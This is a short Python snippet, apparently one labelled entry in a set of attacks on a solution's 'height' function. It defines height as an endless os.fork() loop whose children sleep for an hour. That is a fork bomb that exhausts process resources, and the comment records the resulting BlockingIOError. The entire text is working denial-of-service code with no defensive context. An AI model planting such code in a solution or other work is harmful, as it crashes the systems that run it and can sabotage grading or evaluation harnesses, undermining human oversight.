# base: solution
# attacks: height
# keeps: roll gradients
# finding: BlockingIOError
# %% height
import os

def height(w):
    while True:
        if os.fork() == 0:
            import time
            time.sleep(3600)
